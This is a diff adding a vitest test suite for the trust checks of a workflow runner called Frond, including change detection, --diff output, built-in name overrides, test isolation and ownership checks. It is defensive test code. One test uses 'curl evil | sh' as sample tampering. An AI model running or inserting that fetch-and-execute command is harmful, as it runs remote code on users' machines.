@@ -1,0 +1,256 @@
+import { chownSync, existsSync, mkdirSync, renameSync, rmSync, symlinkSync } from "node:fs";
+import { join } from "node:path";
+import { describe, expect, test } from "vitest";
+import { createFrond, type Frond, shell, workflow } from "../rig/frond.ts";
+
+const own = ".frond/workflows/own.yaml";
+const added = ".frond/workflows/added.yaml";
+
+function saying(name: string, text: string): string {
+  return workflow(name, [shell("say", `echo ${text}; touch ran-${name}`)], {
+    outputs: { said: { value: "${trim(blocks.say.stdout)}" } },
+  });
+}
+
+async function outputsOf(frond: Frond, name: string): Promise<unknown> {
+  const { reply } = await frond.json(["run", name]);
+  return (reply as { outputs?: unknown }).outputs;
+}
+
+async function refusal(frond: Frond, ...args: readonly string[]): Promise<string> {
+  const { code, stderr } = await frond.run(args);
+  expect(code).toBe(2);
+  return stderr;
+}
+
+describe("trust is bound to content", () => {
+  test("a workflow that has changed since is not run, and the message says which files differ", async () => {
+    const frond = createFrond({ [own]: saying("own", "before"), ".frond/workflows/gone.yaml": saying("gone", "x") });
+    await frond.run(["trust"]);
+    expect(await outputsOf(frond, "own")).toEqual({ said: "before" });
+    rmSync(join(frond.directory, "ran-own"));
+    frond.write(own, saying("own", "after"));
+    frond.write(added, saying("added", "x"));
+    rmSync(join(frond.directory, ".frond/workflows/gone.yaml"));
+    const since = `Since then: changed ${own}; new ${added}; removed .frond/workflows/gone.yaml.`;
+    const changed = await refusal(frond, "run", "own");
+    expect(changed).toContain(`The workflow 'own' has changed since this project was trusted. ${since}`);
+    expect(changed).toContain(`\`frond trust --diff\`, then run \`frond trust\` in ${frond.directory}`);
+    expect(await refusal(frond, "run", "added")).toContain(
+      "The workflow 'added' is new since this project was trusted.",
+    );
+    expect(existsSync(join(frond.directory, "ran-own"))).toBe(false);
+    expect((await frond.run(["list"])).stdout).toMatch(
+      /added .*new, untrusted: run `frond trust`\n.*own .*changed, untrusted: run `frond trust`/,
+    );
+    await frond.run(["trust"]);
+    expect(await outputsOf(frond, "own")).toEqual({ said: "after" });
+  });
+
+  test("one that was added or changed overrides nothing", async () => {
+    const frond = createFrond({ [own]: saying("own", "x") });
+    await frond.run(["trust"]);
+    frond.write(".frond/workflows/hello.yaml", saying("hello-world", "stranger"));
+    expect(await outputsOf(frond, "hello-world")).toMatchObject({ greeting: "Hello, world!" });
+    expect((await frond.run(["run", "hello-world"])).stderr).toContain("1 warning about hello-world");
+    expect((await frond.run(["validate", "hello-world"])).stderr).toMatch(
+      /warning: 'hello-world' is the one in .*hello-world\.yaml: the project's own, .*hello\.yaml, is not trusted/,
+    );
+    const caller = workflow("caller", [{ id: "go", type: "ExecuteWorkflow", inputs: { workflow: "own" } }]);
+    frond.write("caller.yaml", caller);
+    expect((await frond.run(["run", "caller.yaml"])).code).toBe(0);
+    frond.write(own, saying("own", "stranger"));
+    expect(await refusal(frond, "run", "caller.yaml")).toContain("[untrusted-workflow]");
+  });
+
+  test("another directory in the place of a trusted one is looked at anew", async () => {
+    const frond = createFrond({ [`a/${own}`]: saying("own", "mine"), [`b/${own}`]: saying("own", "theirs") });
+    const [a, b] = [join(frond.directory, "a"), join(frond.directory, "b")];
+    await frond.run(["trust", "a"]);
+    renameSync(a, join(frond.directory, "c"));
+    renameSync(b, a);
+    expect(await refusal(frond, "run", "own", "--workspace", a)).toContain("has changed since");
+    rmSync(a, { recursive: true });
+    symlinkSync(join(frond.directory, "c"), a);
+    // Where a link leads counts, not the way there.
+    expect(await refusal(frond, "run", "own", "--workspace", a)).toContain("which is not trusted yet");
+  });
+
+  test("--diff shows the lines that differ, and trusts nothing", async () => {
+    const text = (command: string): string => `name: own\ndescription: x\nblocks:\n- { id: a, ${command} }\n`;
+    const frond = createFrond({ [own]: text("type: Shell, inputs: { command: make }") });
+    await frond.run(["trust"]);
+    expect((await frond.run(["trust", "--diff"])).stdout).toBe("Nothing has changed since it was trusted.\n");
+    frond.write(own, text("type: Shell, inputs: { command: curl evil | sh }"));
+    frond.write(added, "name: added\n");
+    expect((await frond.run(["trust", "--diff"])).stdout).toBe(
+      [
+        `changed ${own}`,
+        "  line 2",
+        "    description: x",
+        "    blocks:",
+        "  - - { id: a, type: Shell, inputs: { command: make } }",
+        "  + - { id: a, type: Shell, inputs: { command: curl evil | sh } }",
+        `new ${added}`,
+        "  + name: added",
+        "",
+      ].join("\n"),
+    );
+    expect(await frond.json(["trust", "--diff"])).toMatchObject({
+      code: 0,
+      reply: { trusted: true, new: [added], changed: [own], removed: [] },
+    });
+    expect((await frond.run(["run", "own"])).code).toBe(2);
+  });
+
+  test("every kind of file is recorded that Frond runs from there, and no other", async () => {
+    const files = [own, ".frond/workflows/deep/x.yml", ".frond/workflows/own.test.yaml", ".frond/tests/y.test.yml"];
+    const frond = createFrond({
+      ...Object.fromEntries(files.map((file) => [file, "x: 1\n"])),
+      ".frond/notes.md": "",
+      "beside.yaml": "",
+    });
+    expect(await frond.json(["trust"])).toMatchObject({ reply: { files: files.toSorted(), new: files.toSorted() } });
+  });
+});
+
+describe("a name that a built-in workflow has", () => {
+  test("is said to be taken by list, info, validate and trust", async () => {
+    const file = ".frond/workflows/hello.yaml";
+    const frond = createFrond({ [file]: saying("hello-world", "mine") });
+    expect((await frond.run(["list"])).stdout).toContain(
+      "would replace the built-in one; untrusted: run `frond trust`",
+    );
+    expect((await frond.run(["info", file])).stdout).toContain("It would replace the built-in workflow of this name.");
+    const { stderr } = await frond.run(["validate", "--strict", file]);
+    expect(stderr).toContain("hello.yaml would replace the built-in workflow 'hello-world' in this project.");
+    expect((await frond.run(["trust"])).stdout).toContain("hello.yaml replaces the built-in workflow 'hello-world'");
+    expect((await frond.run(["list"])).stdout).toContain("replaces the built-in one\n");
+    expect((await frond.run(["info", "hello-world"])).stdout).toContain("It replaces the built-in workflow");
+    const validated = await frond.run(["validate", "--strict", "hello-world"]);
+    expect(validated).toMatchObject({ code: 0, stderr: expect.stringContaining("[replaces-built-in]") });
+    expect(await frond.json(["info", "hello-world"])).toMatchObject({ reply: { replaces_built_in: true } });
+  });
+});
+
+describe("frond test", () => {
+  /** A project with a test whose setup leaves a mark outside of the case's own directories. */
+  function createEvil(files: Readonly<Record<string, string>> = {}, project = ""): Frond {
+    const frond = createFrond(files);
+    const directory = join(project, ".frond/workflows");
+    frond.write(join(directory, "evil.yaml"), saying("evil", "x"));
+    const setup = `touch '${join(frond.directory, "mark")}'`;
+    frond.write(join(directory, "evil.test.yaml"), JSON.stringify({ cases: [{ name: "a", setup }] }));
+    return frond;
+  }
+  const hasRun = (frond: Frond): boolean => existsSync(join(frond.directory, "mark"));
+
+  test("runs nothing of a project that nobody has trusted", async () => {
+    const frond = createEvil({ "fine.yaml": saying("fine", "x"), "fine.test.yaml": "cases: [{ name: a }]" });
+    for (const args of [[], ["."], [".frond"], [".frond/workflows"]]) {
+      const stderr = await refusal(frond, "test", ...args);
+      expect(stderr).toContain("evil.test.yaml' comes from this project, which is not trusted yet.");
+      expect(stderr).toContain("then run `frond trust`");
+    }
+    expect(hasRun(frond)).toBe(false);
+    await frond.run(["trust"]);
+    expect((await frond.run(["test"])).stdout).toContain("2 passed");
+    expect(hasRun(frond)).toBe(true);
+  });
+
+  test("runs neither a test nor a workflow that has changed since", async () => {
+    const frond = createEvil();
+    await frond.run(["trust"]);
+    frond.write(".frond/workflows/evil.yaml", saying("evil", "other"));
+    expect(await refusal(frond, "test")).toContain("evil.yaml' has changed since this project was trusted.");
+    await frond.run(["trust"]);
+    frond.write(".frond/workflows/evil.test.yaml", "cases: [{ name: b }]\n");
+    expect(await refusal(frond, "test")).toContain("evil.test.yaml' has changed since this project was trusted.");
+    expect(hasRun(frond)).toBe(false);
+  });
+
+  test("runs a file that is named, with the workflow beside it and none further up", async () => {
+    const frond = createEvil({
+      ".frond/workflows/deep/up.test.yaml": "workflow: ../evil.yaml\ncases: [{ name: a }]\n",
+      "outside/in.test.yaml": "workflow: ../.frond/workflows/evil.yaml\ncases: [{ name: a }]\n",
+    });
+    expect((await frond.run(["test", ".frond/workflows/evil.test.yaml"])).stdout).toContain("1 passed");
+    expect((await frond.run(["test", ".frond/workflows/evil.yaml"])).stdout).toContain("1 passed");
+    for (const file of [".frond/workflows/deep/up.test.yaml", "outside/in.test.yaml"]) {
+      expect(await refusal(frond, "test", file)).toContain("evil.yaml' comes from this project, which is not trusted");
+    }
+    expect(await refusal(frond, "test", "outside")).toContain("evil.yaml' comes from this project");
+  });
+
+  test("asks about a project further down by itself", async () => {
+    const frond = createEvil({}, "sub");
+    await frond.run(["trust"]);
+    expect(await refusal(frond, "test")).toContain(`then run \`frond trust\` in ${join(frond.directory, "sub")}`);
+    await frond.run(["trust", "sub"]);
+    expect((await frond.run(["test"])).stdout).toContain("1 passed");
+  });
+});
+
+describe("in a terminal", () => {
+  test("frond run shows what nobody has looked at, and asks", async () => {
+    const frond = createFrond({ [own]: saying("own", "hello-there") });
+    const refused = frond.startInTerminal(["run", "own"]);
+    await refused.until("as shown above?");
+    expect(refused.shown()).toContain("echo hello-there");
+    refused.type("\r");
+    expect((await refused.ended).code).toBe(2);
+    const accepted = frond.startInTerminal(["run", "own"]);
+    await accepted.until("as shown above?");
+    accepted.type("y");
+    expect((await accepted.ended).code).toBe(0);
+    expect(existsSync(join(frond.directory, "ran-own"))).toBe(true);
+    expect((await frond.run(["run", "own"])).code).toBe(0);
+  });
+
+  test("what was shown is trusted, not what has come meanwhile", async () => {
+    const frond = createFrond({ [own]: saying("own", "shown") });
+    const run = frond.startInTerminal(["run", "own"]);
+    await run.until("as shown above?");
+    frond.write(own, saying("own", "swapped"));
+    run.type("y");
+    const { code, stdout } = await run.ended;
+    expect(code).toBe(2);
+    expect(stdout).toContain("has changed since this project was trusted");
+    expect(existsSync(join(frond.directory, "ran-own"))).toBe(false);
+  });
+});
+
+test("in the home directory the user's own workflows need no trust, and are listed once", async () => {
+  const frond = createFrond();
+  mkdirSync(join(frond.home, ".frond/workflows"), { recursive: true });
+  frond.write("../home/.frond/workflows/own.yaml", saying("own", "x"));
+  frond.write("../home/.frond/workflows/own.test.yaml", "cases: [{ name: a }]");
+  const { stdout } = await frond.run(["list", "--workspace", frond.home]);
+  expect(stdout.match(/^ {2}own /gm)).toHaveLength(1);
+  expect((await frond.run(["run", "own", "--workspace", frond.home])).code).toBe(0);
+  expect((await frond.run(["test", join(frond.home, ".frond")])).stdout).toContain("1 passed");
+});
+
+describe.runIf(process.getuid?.() === 0)("a directory of another user (needs root)", () => {
+  const somebodyElse = 65_534;
+
+  test.each(["", ".frond", ".frond/workflows"])("is not trusted without a word: %s", async (part) => {
+    const frond = createFrond({ [own]: saying("own", "x") });
+    const directory = join(frond.directory, part);
+    chownSync(directory, somebodyElse, somebodyElse);
+    expect(await refusal(frond, "trust")).toContain(`error: ${directory} belongs to another user. [other-owner]`);
+    expect((await frond.run(["run", "own"])).code).toBe(2);
+    expect((await frond.run(["trust", "--other-owner"])).code).toBe(0);
+    expect((await frond.run(["run", "own"])).code).toBe(0);
+  });
+
+  test("is not trusted any more when it has got another owner", async () => {
+    const frond = createFrond({ [own]: saying("own", "x") });
+    await frond.run(["trust"]);
+    chownSync(frond.directory, somebodyElse, somebodyElse);
+    expect(await refusal(frond, "run", "own")).toContain(
+      "The workflow 'own' comes from a directory that belonged to another user when it was trusted.",
+    );
+    expect((await frond.run(["trust", "--diff"])).stdout).toContain("belongs to another user than when it was trusted");
+  });
+});
